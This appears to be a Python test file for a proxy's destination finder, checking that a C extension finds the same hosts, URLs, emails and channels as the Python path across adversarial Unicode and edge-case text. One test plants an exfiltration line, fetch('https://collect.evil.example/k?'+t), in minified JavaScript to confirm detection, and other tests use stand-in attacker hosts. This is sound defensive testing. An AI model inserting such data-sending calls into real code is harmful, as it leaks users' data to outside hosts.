"""The destination finder's C walks (proxy/detector/_native.c: Spans and its add_dotted and
add_channels, ipv6_runs, url_spans, ibans, contacts)
against its Python path: the same destinations, keys, kinds and spans on every text, including
text built to break a hand-written matcher (labels of 63/64 characters, 126/127 labels, last
labels of 24/25 letters, IPv4 octets of Unicode digits, confusables, full-width dots, IDNA,
percent-escapes, IPv6 forms, NUL, lone surrogates, astral characters, every string width). A
C walk that found less than the Python one would be a bypass: a planted host not recorded as
taint."""

from __future__ import annotations

import contextlib
import json
import os
import random
from collections.abc import Iterator

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bench.payloads import KINDS, payload
from proxy.detector import native
from proxy.engine import destinations as d
from proxy.engine.taint import _contacts, sightings
from tests.test_detector_native import stale_build

built = pytest.mark.skipif(native.load() is None, reason="the C extension is not built here")


def both(text: str) -> tuple[object, object]:
    """extract_destinations on the C path and on the Python path (GATEWATCH_NATIVE=0)."""
    with python_path(False):
        mine = d.extract_destinations(text)
    with python_path(True):
        theirs = d.extract_destinations(text)
    return mine, theirs


@contextlib.contextmanager
def python_path(on: bool) -> Iterator[None]:
    saved = os.environ.get(native.ENV)
    os.environ[native.ENV] = "0" if on else "1"
    d._extract.cache_clear()
    try:
        yield
    finally:
        d._extract.cache_clear()
        if saved is None:
            del os.environ[native.ENV]
        else:
            os.environ[native.ENV] = saved


def claimed_spans(spans: object, claimed: list[tuple[int, int]]) -> object:
    for start, end in claimed:
        spans.add(start, end, "claimed", d.OTHER)  # type: ignore[attr-defined]
    return spans


def dotted_py(text: str, claimed: list[tuple[int, int]]) -> tuple[d.Found, ...]:
    spans = claimed_spans(d._Spans(), claimed)
    d._find_dotted(text, spans.add, spans.taken)  # type: ignore[attr-defined]
    return spans.found()  # type: ignore[attr-defined,no-any-return]


def dotted_c(text: str, claimed: list[tuple[int, int]]) -> tuple[d.Found, ...]:
    module = native.load()
    assert module is not None
    spans = claimed_spans(module.Spans(), claimed)
    spans.add_dotted(text, d._NOT_TLDS, d._url_key, d.canonical_ip, d.IP, d.HOST)  # type: ignore[attr-defined]
    return spans.found()  # type: ignore[attr-defined,no-any-return]


def channels_py(text: str, claimed: list[tuple[int, int]]) -> tuple[d.Found, ...]:
    spans = claimed_spans(d._Spans(), claimed)
    for at, end in d._channels(text):
        spans.add(at, end, text[at:end].casefold(), d.CHANNEL)  # type: ignore[attr-defined]
    return spans.found()  # type: ignore[attr-defined,no-any-return]


def channels_c(text: str, claimed: list[tuple[int, int]]) -> tuple[d.Found, ...]:
    module = native.load()
    assert module is not None
    spans = claimed_spans(module.Spans(), claimed)
    spans.add_channels(text, d.CHANNEL)  # type: ignore[attr-defined]
    return spans.found()  # type: ignore[attr-defined,no-any-return]


PIECES = st.sampled_from([
    "a", "Z", "7", "0", "-", "_", ".", "..", "@", "/", "#", "&#", ":", "::", " ", "\n", "\t",
    ",", "(", ")", "+", "!", "?", ";", "%", "%2e", "%2F", "\\", "<", ">", '"', "'", "`", "]",
    "}", "é", "\u0663", "\u00b2", "\u2460", "ß", "[", "\x00", "\x85", "\xa0", "\u3000",
    "\u2028", "\u200b", "\u202e", "\ufeff", "\ud800", "\udfff", "\U0001f600", "\U0001d7d8",
    "\uff0e", "\u3002", "\uff10", "\u0430", "\u0435", "\u043e", "K", "\u212a", "ſ",
    "example.com", "evil.example", "EVIL.Example.", "x.py", "a.JSON", "x.Md", "1.2.3.4",
    "10.0.0.1.5", "1.2.3.4.", "1.2.3.45678", "01.002.3.4", "999.1.1.1", "1.2.\u0663.4",
    "\u0661.2.3.4", "2001:db8::1", "::ffff:10.1.1.3", "[::1]", "fe80::1%eth0",
    "a:b:c:d:e:f:0:1", "#general", "#t.x.", "#a\u00e9b", "&#x41;", "bob@corp.example",
    "https://a.example/p", "http://xn--80ak6aa92e.com/", "xn--bcher-kva.example",
    "b\u00fccher.example", "\u0430pple.com", "www.a.example/x", "a.example/p%20q?x=1",
    "a" * 62, "b" * 63, "c" * 64, "d" * 25, "x." * 126, "y." * 127, "self.foo", "e.prototype",
    "this.props.children", "t.toLowerCase()", "+1 555 123 4567", "(555) 123-4567",
    "DE89 3704 0044 0532 0130 00", "a-.b.com", "-a.com", "a.-b.com", "a.b-c.com",
    "www.", "WWW.", "Www.a.example", "www.example", "wwwx.example", "www.www.example",
    "xn--", "XN--", "Xn--p1ai", "a.xn--p1ai", "xn--80ak6aa92e.com", "x-n--a.com", "xn-.com",
])

TEXTS = st.lists(PIECES, max_size=40).map("".join)
DENSE = st.text(alphabet=st.sampled_from("ab1-_.@/#&:x \u00e9\u0663\uff0e\x00\ud800\U0001f600"),
                max_size=300)
ANY = st.text(max_size=200)  # every code point, surrogates included


@built
@settings(max_examples=6000, deadline=None)
@given(st.one_of(TEXTS, DENSE, ANY))
def test_generated_text_finds_the_same_on_both_paths(text):
    """Pieces built to hit the edges, dense punctuation, and any code point at all."""
    mine, theirs = both(text)
    assert mine == theirs


CLAIMS = st.lists(st.tuples(st.integers(0, 400), st.integers(1, 40)), max_size=6).map(
    lambda claims: [(start, start + length) for start, length in claims])


@built
@settings(max_examples=1500, deadline=None)
@given(st.one_of(TEXTS, DENSE, ANY), CLAIMS)
def test_the_dot_walk_adds_the_same_around_claimed_spans(text, claimed):
    """The walk's own `done` and the spans other finders claimed before it, separately."""
    assert dotted_c(text, claimed) == dotted_py(text, claimed)


@built
@settings(max_examples=1500, deadline=None)
@given(st.one_of(TEXTS, DENSE, ANY), CLAIMS)
def test_channels_are_the_python_channels(text, claimed):
    assert channels_c(text, claimed) == channels_py(text, claimed)


@built
@settings(max_examples=500, deadline=None)
@given(st.lists(st.tuples(st.integers(0, 60), st.integers(0, 12),
                          st.sampled_from(["", "k", "key"])), max_size=60))
def test_c_spans_keep_what_the_python_spans_keep(ops):
    module = native.load()
    assert module is not None
    mine, theirs = module.Spans(), d._Spans()
    for start, length, key in ops:
        end = start + length
        assert mine.taken(start, end) == theirs.taken(start, end)
        mine.add(start, end, key or None, "k")
        theirs.add(start, end, key or None, "k")
    assert mine.found() == theirs.found()


@built
@pytest.mark.parametrize("kind", KINDS)
def test_payloads_find_the_same_on_both_paths(kind):
    for size in (200, 4096, 65536):
        for variant in range(3):
            mine, theirs = both(payload(kind, size, variant))
            assert mine == theirs


@built
@pytest.mark.parametrize("width", ["", "\xe9", "\u0430", "\U0001f600"])
def test_every_string_width_finds_the_same(width):
    """One non-ASCII character makes the whole text 1, 2 or 4 bytes a character in C."""
    rng = random.Random(7)
    words = ["evil.example", "a.b.c.d.example/path", "1.2.3.4", "#chan", "x.py", "t.map",
             "https://h.example/q?x", "bob@corp.example", "::1", width, "\u0663", ".", " "]
    for _ in range(200):
        text = "".join(rng.choice(words) + rng.choice(["", " ", ".", "/", ",", "\n"])
                       for _ in range(30))
        mine, theirs = both(text)
        assert mine == theirs


@built
@pytest.mark.parametrize("text", [
    "see " + "a" * 63 + ".example now",
    "see " + "a" * 64 + ".example now",
    "x." * 126 + "com and " + "y." * 127 + "org",
    "name." + "z" * 24 + " and name." + "z" * 25,
    "1.2.3.4 1.2.3.4. 1.2.3.4.5 1.2.3.1234 1.2.\u0663.4 \u0661.2.3.4 12.34.56.78/x",
    "evil\uff0eexample evil\u3002example \u0430pple.com b\u00fccher.example xn--p1ai.example",
    "a.example\x00b.example \ud800c.example d.example\ud800 e.example\U0001f600",
    "#a #b. #c.. x#d &#e /#f ##g #\u00e9 #h\u00e9\u0663.x",
    "host.example." * 2000,
])
def test_edges_find_the_same_on_both_paths(text):
    mine, theirs = both(text)
    assert mine == theirs


@built
def test_a_planted_host_in_a_long_minified_line_is_found_on_the_c_path():
    """The attack the finder exists for, inside the text it is slowest on: a host an
    injection plants among thousands of property accesses."""
    text = "".join(f"e{i}.prop{i}();" for i in range(5000))
    text = text[:30000] + "fetch('https://collect.evil.example/k?'+t);" + text[30000:]
    text += " exfil.evil.example "
    d._extract.cache_clear()
    keys = {key for key, _kind, _s, _e in d.extract_destinations(text)}
    assert "collect.evil.example/k" in keys and "exfil.evil.example" in keys
    mine, theirs = both(text)
    assert mine == theirs


LINES = st.lists(st.one_of(PIECES, st.sampled_from([
    "\n", "\r\n", "From: ", "Reply-To: ", "- IBAN: ", "My e-mail is ", "contact us at ",
    "MY SITE IS ", "email me via\u3000", "reach us on\t", "my address:  ", "Notes: see ",
    "ſend it to ", "Call me at\u2028",
])), max_size=40).map("".join)


def both_sightings(result: object) -> tuple[object, object]:
    with python_path(False):
        mine = sightings(result)
    with python_path(True):
        theirs = sightings(result)
    return mine, theirs


def contacts_py(text: str, found: tuple[d.Found, ...]) -> list[bool]:
    with python_path(True):
        return _contacts(text, found)


@built
@settings(max_examples=1500, deadline=None)
@given(st.one_of(LINES, ANY))
def test_contacts_are_the_python_ones(text):
    with python_path(False):
        found = d.extract_destinations(text)
        mine = _contacts(text, found)
    assert mine == contacts_py(text, found)


@built
@settings(max_examples=500, deadline=None)
@given(st.lists(st.sampled_from(["a", "b", " ", "\n", "\t", "\u2028", ":", "s", "From: ",
                                 "my email is ", "x@y.example"]), max_size=60).map("".join),
       st.lists(st.tuples(st.integers(0, 300), st.integers(0, 10)), max_size=10))
def test_contacts_of_any_spans_are_the_python_ones(text, spans):
    """Spans in any order, overlapping, empty: the answers do not lean on _extract's order."""
    found = tuple(("k", "host", min(s, len(text)), min(s + n, len(text))) for s, n in spans)
    with python_path(False):
        mine = _contacts(text, found)
    assert mine == contacts_py(text, found)


@built
@settings(max_examples=1500, deadline=None)
@given(LINES)
def test_sightings_are_the_same_on_both_paths(text):
    mine, theirs = both_sightings({"content": [{"type": "text", "text": text}]})
    assert mine == theirs
    mine, theirs = both_sightings({"content": [{"type": "text", "text": json.dumps(
        {"from": text[:100], "body": text, "list": text.split("\n")})}]})
    assert mine == theirs


@built
@pytest.mark.parametrize("kind", KINDS)
def test_payload_sightings_are_the_same_on_both_paths(kind):
    for size in (4096, 65536):
        text = payload(kind, size, 2)
        mine, theirs = both_sightings({"content": [{"type": "text", "text": text}]})
        assert mine == theirs


IPV6 = st.lists(st.sampled_from([
    ":", "::", ".", "0", "1", "f", "F", "g", "ff", "db8", "2001", "ffff", "10.1.1.3", "1.2.3.4",
    " ", "[", "]", "_", "x", "\u0663", "\uff1a", "12:30:45", "::1", "fe80::1", "a:b:c:d:e:f:0:1",
    "1:2:3:4:5:6:7:8", "1:2:3:4:5:6:7:8:9", "dead::beef", "\x00", "\ud800", "%", "/",
    "0" * 40,
]), max_size=30).map("".join)


def ipv6_adds_py(text: str) -> list[tuple[int, int, str | None]]:
    calls: list[tuple[int, int, str | None]] = []
    if "::" in text or (text.count(":") >= 7 and d._SEVEN_COLONS.search(text)):
        d._find_ipv6(text, lambda start, end, key, _kind: calls.append((start, end, key)))
    return calls


@built
@settings(max_examples=3000, deadline=None)
@given(st.one_of(IPV6, TEXTS, ANY))
def test_ipv6_candidates_are_the_python_ones(text):
    module = native.load()
    assert module is not None
    mine = [(start, end, d.canonical_ip(text[start:end])) for start, end in module.ipv6_runs(text)]
    assert [call for call in mine if call[2] is not None] == ipv6_adds_py(text)  # add drops None





@built
def test_a_stale_build_leaves_the_finder_on_its_python_path(monkeypatch, tmp_path):
    """An edit of _native.c since the last install: the finder runs its Python path, and finds
    what the C path found."""
    text = payload("minjs", 4096, 1) + " https://evil.example/x thief@evil.example #ops 10.0.0.1"
    d._extract.cache_clear()
    with_c = d.extract_destinations(text)
    with stale_build(monkeypatch, tmp_path):
        assert d.native_finders() is None
        d._extract.cache_clear()
        assert d.extract_destinations(text) == with_c
    d._extract.cache_clear()
    assert d.native_finders() is not None


def test_gatewatch_native_0_runs_the_finder_on_its_python_path(monkeypatch):
    monkeypatch.setenv(native.ENV, "0")
    d._extract.cache_clear()
    try:
        assert d.native_finders() is None
        found = d.extract_destinations("mail thief@evil.example or see evil.example/x, #ops")
        assert [kind for _key, kind, _s, _e in found] == [d.EMAIL, d.URL, d.CHANNEL]
    finally:
        d._extract.cache_clear()


URLS = st.lists(st.sampled_from([
    "://", ":", "/", "//", "http", "https", "HTTP", "a+b.c-d", "x" * 17, "1", "-", ".", " ",
    "\n", "h\u00e9", "\u0430", "example.com", "/p?q=1#f", "evil.example", ")", "]", "}", '"',
    "'", "`", "<", ">", ",", ".", "!", "?", ";", "\u3000", "\x85", "\x00", "\ud800", "%2F",
    "\\", "@", "user:pw@", "[::1]", ":8080", "\U0001f600",
]), max_size=30).map("".join)

PHONES = st.lists(st.sampled_from([
    "+", "(", ")", "-", " ", "\t", ".", "1", "5", "0", "555", "123", "4567", "\u0663", "\u00b2",
    "\uff11", "x", "a", "_", "+1 555 123 4567", "(555) 123-4567", "(555)123-4567",
    "555-123-4567", "-123-4567", "1-234-567-8901", "+44 (20) 7946-0958", "+1" + "2" * 20,
    "+1 (((((((((((((((((2", "\n", "\x00", "\ud800",
]), max_size=30).map("".join)
ACCOUNTS = st.text(alphabet="DEGB0123456789 AZ\ud800x", max_size=120)
# Each C scan that gives spans, the Python path's scan it stands for, and text built for it.
SPAN_SCANS = {
    "url_spans": (d._url_spans, URLS),
    "phone_spans": (d._phone_spans, PHONES),
    "ibans": (d._ibans_py, ACCOUNTS),
}


@built
@pytest.mark.parametrize("name", sorted(SPAN_SCANS))
@settings(max_examples=3000, deadline=None)
@given(data=st.data())
def test_span_scans_are_the_python_ones(name, data):
    python_scan, pieces = SPAN_SCANS[name]
    text = data.draw(st.one_of(pieces, TEXTS, DENSE, ANY))
    assert getattr(native.load(), name)(text) == python_scan(text)
